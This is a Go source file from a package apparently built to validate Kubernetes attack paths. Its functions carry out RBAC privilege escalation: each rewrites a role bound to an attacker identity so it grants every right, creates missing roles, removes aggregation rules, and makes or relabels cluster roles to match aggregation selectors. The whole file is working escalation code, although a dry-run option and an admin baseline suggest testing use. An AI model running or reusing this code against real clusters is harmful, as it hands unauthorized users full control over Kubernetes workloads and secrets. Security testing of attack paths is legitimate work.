package attackpaths

import (
	"context"
	"fmt"
	"strings"

	rbacv1 "k8s.io/api/rbac/v1"
)

// escalateRole adds every right to a role that is bound to an identity of the attacker.
func (e *executor) escalateRole(ctx context.Context, s step) error {
	namespace := ""
	if _, after, ok := strings.Cut(s.Because, "in namespace "); ok {
		namespace, _, _ = strings.Cut(after, ";")
	}
	resource := clusterRoleBindings
	if namespace != "" {
		resource = roleBindings
	}
	last := answer{err: fmt.Errorf("no role is bound to an identity that is held")}
	for _, o := range e.list(ctx, resource) {
		if o.namespace() != namespace || !e.isBound(o) {
			continue
		}
		if last = e.escalateBound(ctx, e.acting(s), o, false); last.ok() {
			return e.settle(ctx)
		}
	}
	return last.failure()
}

// escalateBound gives the role of a binding every right: the role is changed, or made, or becomes an
// aggregate of another one.
func (w *world) escalateBound(ctx context.Context, actors []*actor, binding object, try bool) answer {
	ref, _ := binding.content["roleRef"].(map[string]any)
	name, _ := ref["name"].(string)
	kind, namespace := clusterRoles, ""
	if ref["kind"] == "Role" {
		kind, namespace = roles, binding.namespace()
	}
	if !w.admin.get(ctx, kind.at(namespace, name)).ok() {
		a, _ := first(actors, func(a *actor) answer { return w.makeRole(ctx, a, kind.in(namespace), name, nil, try) })
		return a
	}
	last := w.escalate(ctx, actors, kind.at(namespace, name), try)
	var whole rbacv1.ClusterRole
	if kind == roles || !last.refused() || w.admin.get(ctx, kind.at("", name)).into(&whole) != nil || whole.AggregationRule == nil {
		return last
	}
	for _, selector := range whole.AggregationRule.ClusterRoleSelectors {
		for _, a := range actors {
			if last = w.makeRole(ctx, a, kind.in(""), fmt.Sprint("part-", w.counter.Add(1)), selector.MatchLabels, try); last.ok() {
				return last
			}
			if last = w.labelRole(ctx, a, selector.MatchLabels, try); last.ok() {
				return last
			}
		}
	}
	return last
}

func (w *world) makeRole(ctx context.Context, a *actor, path, name string, labels map[string]string, try bool) answer {
	if try {
		path = dry(path)
	}
	return a.post(ctx, path, map[string]any{"metadata": map[string]any{"name": name, "labels": labels}, "rules": allRules})
}

// labelRole gives labels and every right to a cluster role that Kubernetes does not make.
func (w *world) labelRole(ctx context.Context, a *actor, labels map[string]string, try bool) answer {
	last := answer{err: fmt.Errorf("there is no cluster role")}
	for _, o := range w.list(ctx, clusterRoles) {
		if _, old := w.baseline[o.path]; old {
			continue
		}
		o.content["rules"] = allRules
		o.content["aggregationRule"] = nil
		o.metadata()["labels"] = labels
		patch := map[string]any{"metadata": map[string]any{"labels": labels}, "rules": allRules, "aggregationRule": nil}
		if last = change(ctx, a, o.path, o.content, patch, try); last.ok() {
			return last
		}
	}
	return last
}

// escalate gives a role every right. A controller fills aggregated roles, so that the
// aggregation is removed.
func (w *world) escalate(ctx context.Context, actors []*actor, path string, try bool) answer {
	var whole map[string]any
	if a := w.admin.get(ctx, path); !a.ok() || a.into(&whole) != nil {
		return a
	}
	whole["rules"] = allRules
	rules := map[string]any{"rules": allRules}
	if whole["aggregationRule"] != nil {
		whole["aggregationRule"], rules["aggregationRule"] = nil, nil
	}
	a, _ := first(actors, func(a *actor) answer { return change(ctx, a, path, whole, rules, try) })
	return a
}
